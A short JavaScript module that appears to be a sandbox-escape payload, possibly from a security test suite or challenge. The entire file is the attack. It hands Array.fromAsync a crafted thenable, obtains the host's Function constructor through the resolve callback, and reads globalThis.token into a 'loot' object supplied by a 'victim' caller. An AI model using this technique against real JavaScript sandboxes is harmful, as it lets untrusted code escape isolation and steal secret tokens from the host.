module.exports = (victim, loot) => {
  Array.fromAsync([{ then(resolve) { try { loot.value = resolve.constructor('return globalThis.token')(); } catch (error) { loot.error = error; } } }]);
};
